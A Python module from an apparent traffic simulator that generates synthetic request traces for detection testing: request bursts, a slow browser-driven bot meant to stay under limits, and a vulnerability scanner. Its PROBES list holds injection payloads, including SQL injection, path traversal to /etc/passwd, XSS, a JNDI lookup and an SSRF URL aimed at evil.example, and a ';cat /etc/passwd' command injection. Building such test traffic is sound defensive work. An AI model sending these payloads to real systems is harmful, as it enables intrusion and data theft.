"""Scripts that come from one place: bursts, a slow bot, an attack. Pure."""

from collections.abc import Iterator
from random import Random
from typing import Final

from simulate.browsers import find_browser
from simulate.countries import BY_CODE
from simulate.rng import draw_one
from simulate.traces.machine_requests import CHROME, CURL, OLD_CHROME, PYTHON, fetch, make_machine, pretend
from simulate.traces.model import Link, TraceRequest
from simulate.traces.networks import CLOUD
from simulate.traces.timing import MINUTE, SECOND, draw_between
from simulate.visitors import Visitor, accept_language, navigation_headers

BURSTS: Final = (CURL, PYTHON, pretend(CHROME))
BURST: Final = 20 * SECOND
SLOW_GAP: Final = 45 * SECOND
SLOW_SPREAD: Final = 0.25

PROBES: Final = (
    "sub1=1%27%20OR%20%271%27=%271",
    "sub1=1%20UNION%20SELECT%20null,null--",
    "sub1=../../../../etc/passwd",
    "sub1=%3Cscript%3Ealert(1)%3C/script%3E",
    "sub1=$%7Bjndi:ldap://evil.example/x%7D",
    "sub1=%7B%7B7*7%7D%7D",
    "url=https://evil.example/",
    "utm_source=;cat%20/etc/passwd",
    "external_id=1%20AND%20SLEEP(5)",
    "sub1=%22%3E%3Cimg%20src=x%3E",
)


def draw_burst(rng: Random, codes: tuple[str, ...], size: int) -> Iterator[TraceRequest]:
    """Three bursts of 20 s on one link, a minute apart: by curl, by a library, and by one that calls itself Chrome."""
    for number, headers in enumerate(BURSTS):
        machine, address = make_machine(f"burst-{number + 1}", "burst"), CLOUD.draw(rng)
        count = size // len(BURSTS) + (number < size % len(BURSTS))
        for _ in range(count):
            at_ms = number * (BURST + MINUTE) + draw_between(rng, 0, BURST)
            yield fetch(machine, at_ms, (address, Link(codes[0])), headers)


def draw_slow_bot(rng: Random, codes: tuple[str, ...], size: int) -> Iterator[TraceRequest]:
    """A real browser that a program drives at a home: a visit about every 45 s, without cookies.

    Nothing in one of its requests differs from a person's, and it stays below each limit. It shows what is not caught.
    """
    country = BY_CODE["US"]
    browser = find_browser("Windows NT 10.0", "Chrome/149", without="Edg/")
    language = accept_language("en-US", browser.engine)
    visitor = Visitor(browser, country, (*browser.headers, ("Accept-Language", language)))
    machine, address, at_ms = make_machine("slow-1", "slow_bot"), country.v4.draw(rng), 0
    for number in range(size):
        link, referrer = Link(codes[0], f"sub1=post-{number % 7}"), "https://lifestyle.example/"
        yield fetch(machine, at_ms, (address, link), navigation_headers(visitor, referrer))
        at_ms += draw_between(rng, SLOW_GAP * (1 - SLOW_SPREAD), SLOW_GAP * (1 + SLOW_SPREAD))


def draw_attack(rng: Random, codes: tuple[str, ...], size: int) -> Iterator[TraceRequest]:
    """A vulnerability scanner that tries its list on one path, four requests a second, one in twenty by POST."""
    machine, address = make_machine("attacker-1", "attack"), CLOUD.draw(rng)
    for number in range(size):
        link = Link(codes[0], f"{draw_one(rng, PROBES)}&n={number}")
        method = "POST" if number % 20 == 19 else "GET"  # noqa: PLR2004 - each twentieth
        at_ms = number * 250 + draw_between(rng, 0, 100)
        yield fetch(machine, at_ms, (address, link), pretend(OLD_CHROME), method)
